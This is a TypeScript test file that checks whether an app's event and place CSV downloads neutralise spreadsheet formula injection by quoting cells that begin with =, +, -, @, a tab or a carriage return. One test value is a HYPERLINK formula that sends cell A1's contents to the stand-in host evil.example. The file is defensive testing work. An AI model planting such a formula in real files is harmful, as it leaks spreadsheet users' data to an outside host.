import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readBundle } from '../src/modules/bundle/bundle.reader.ts';
import { eventsCsv, placesCsv } from '../src/modules/geo/geo.data.ts';
import { DEMO } from './harness.ts';

// The CSV downloads are opened in spreadsheets: a text cell that starts like a
// formula must stay text (OWASP "CSV injection"), while numbers stay numbers.

/** The cells of a CSV with quoted fields (enough for these files: no quote inside a quoted newline). */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const text = csv.replace(/^\uFEFF/, '');
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (ch === '"') quoted = false; else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') { row.push(cell); cell = ''; } else if (ch === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; } else cell += ch;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

const column = (rows: string[][], name: string, id: string) => {
  const i = rows[0]!.indexOf(name);
  assert.ok(i >= 0, `no column ${name}`);
  return rows.find((r) => r[0] === id)?.[i] ?? assert.fail(`no row ${id}`);
};

describe('CSV downloads', () => {
  const content = readBundle(DEMO).content ?? assert.fail('the demo does not read');
  const event = content.events[0]!;
  event.title = { ...event.title, fr: '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")', en: '+1+1' };
  event.description = { ...event.description, fr: '@SUM(A1:A9)', en: '-2+3' };
  const place = content.places.find((p) => p.lon < 0) ?? assert.fail('the demo has no place west of Greenwich');
  place.name = { ...place.name, fr: '\t=1+1', en: '\r=1+1' };

  test('text cells that a spreadsheet would run as a formula start with a quote', () => {
    const events = parseCsv(eventsCsv(content));
    assert.equal(column(events, 'title_fr', event.id), `'=HYPERLINK("https://evil.example/?"&A1,"Cliquez")`);
    assert.equal(column(events, 'title_en', event.id), "'+1+1");
    assert.equal(column(events, 'description_fr', event.id), "'@SUM(A1:A9)");
    assert.equal(column(events, 'description_en', event.id), "'-2+3");
    const places = parseCsv(placesCsv(content));
    assert.equal(column(places, 'name_fr', place.id), "'\t=1+1");
    assert.equal(column(places, 'name_en', place.id), "'\r=1+1");
  });

  test('numbers stay numbers: a longitude west of Greenwich is written as it is', () => {
    const places = parseCsv(placesCsv(content));
    assert.equal(column(places, 'longitude', place.id), String(place.lon));
    assert.match(column(places, 'longitude', place.id), /^-\d/);
    assert.equal(column(places, 'latitude', place.id), String(place.lat));
    // Ordinary text is untouched.
    const events = parseCsv(eventsCsv(content));
    const other = content.events[1]!;
    assert.equal(column(events, 'title_fr', other.id), other.title.fr);
  });
});
